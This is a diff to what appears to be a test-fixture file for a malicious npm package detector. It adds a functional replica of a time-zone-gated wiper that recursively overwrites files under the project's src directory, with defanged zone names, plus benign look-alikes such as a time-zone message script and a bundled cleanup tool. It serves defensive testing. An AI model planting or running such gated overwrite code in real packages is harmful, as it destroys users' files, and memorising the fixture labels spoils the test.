@@ -122,6 +122,29 @@ INCIDENTS: list[Replica] = [
         frozenset({"process-killing"}),
         name="fast-noop",
     ),
+    # Time-zone-gated wiper: es5-ext 0.10.63 (March 2022) gated on `resolvedOptions().timeZone` naming Russian
+    # zones (it only printed a message: see the look-alike below); this replica puts node-ipc's overwrite
+    # behind that gate, aimed at the project's sources (not a broad target: the gate alone blocks it).
+    Replica(
+        "timezone-gated-overwrite",
+        {
+            "index.js": (
+                "const fs = require('fs'); const path = require('path');\n"
+                "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
+                "function fill(dir) {\n"
+                "  for (const n of fs.readdirSync(dir)) {\n"
+                "    const p = path.join(dir, n);\n"
+                "    try { fs.statSync(p).isDirectory() ? fill(p) : fs.writeFileSync(p, '-'); } catch (e) {}\n"
+                "  }\n"
+                "}\n"
+                "if (['Europe/Defanged', 'Asia/Defanged'].includes(zone)) fill(path.join(process.cwd(), 'src'));\n"
+                "module.exports = {};\n"
+            )
+        },
+        "block",
+        frozenset({"conditioned-destruction"}),
+        name="time-utils-like",
+    ),
 ]
 
 BENIGN: list[Replica] = [
@@ -196,6 +219,21 @@ BENIGN: list[Replica] = [
         "allow",
         frozenset(),
     ),
+    # es5-ext 0.10.63 (2022): checks the time zone against Russian zones and prints a message, no damage.
+    Replica(
+        "timezone-gated-message",
+        {
+            "_postinstall.js": (
+                "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
+                "if (['Europe/Moscow', 'Europe/Kaliningrad'].includes(zone)) {\n"
+                "  console.log('\\u001b[33m' + 'a message about the war' + '\\u001b[39m');\n"
+                "}\n"
+            )
+        },
+        "allow",
+        frozenset(),
+        manifest={"scripts": {"postinstall": "node _postinstall.js"}},
+    ),
     # A CLI whose --watch mode loops at the top level but stops when not watching (nodemon-like).
     Replica(
         "cli-watch-loop-with-exit",
@@ -236,9 +274,45 @@ BENIGN: list[Replica] = [
     ),
 ]
 
+# A CLI bundle (deploy tools bundle `public-ip` and `del`): a public-IP lookup, a temp-directory cleanup
+# with a one-letter walker, and a router's `r('/')` — thousands of bytes apart, as unrelated modules are.
+_FILLER = "".join(f"var m{i}=function(a){{return a+{i}}};" for i in range(400))
+BENIGN.append(
+    Replica(
+        "cli-bundle-ip-lookup-and-cleanup",
+        {
+            "dist/cli.js": (
+                "var fs=require('fs'),path=require('path'),https=require('https'),os=require('os');"
+                "function ip(){return new Promise(function(ok){https.get('https://api.ipify.org',function(s){"
+                "s.on('data',ok)})})}\n"
+                + _FILLER
+                + "\nfunction r(e){for(var t of fs.readdirSync(e)){var n=path.join(e,t);"
+                "fs.lstatSync(n).isDirectory()?r(n):fs.unlinkSync(n)}}"
+                "function clean(d){r(d);fs.rmSync(path.join(os.tmpdir(),'deploy-'+d),{recursive:!0,force:!0})}\n"
+                + _FILLER
+                + "\nvar routes={};(function(){function r(p,h){routes[p]=h}r('/',function(){return ip()})})();"
+                "module.exports={clean:clean,ip:ip,routes:routes};\n"
+            )
+        },
+        "allow",
+        frozenset({"geolocation-lookup"}),
+        manifest={"main": "dist/cli.js"},
+    )
+)
+
 LOOKALIKES: dict[str, tuple[str, ...]] = {
-    "recursive-wipe": ("rimraf-caller-directory", "date-library-time-zone"),
-    "conditioned-destruction": ("rimraf-caller-directory", "date-library-time-zone", "tree-kill-child-pids"),
+    "recursive-wipe": (
+        "rimraf-caller-directory",
+        "date-library-time-zone",
+        "cli-bundle-ip-lookup-and-cleanup",
+    ),
+    "conditioned-destruction": (
+        "rimraf-caller-directory",
+        "date-library-time-zone",
+        "tree-kill-child-pids",
+        "cli-bundle-ip-lookup-and-cleanup",
+        "timezone-gated-message",
+    ),
     "conditioned-exfiltration": ("token-expiry-check", "date-library-time-zone"),
     "process-killing": ("tree-kill-child-pids", "cli-spawning-git"),
     "module-level-endless-loop": ("cli-watch-loop-with-exit",),
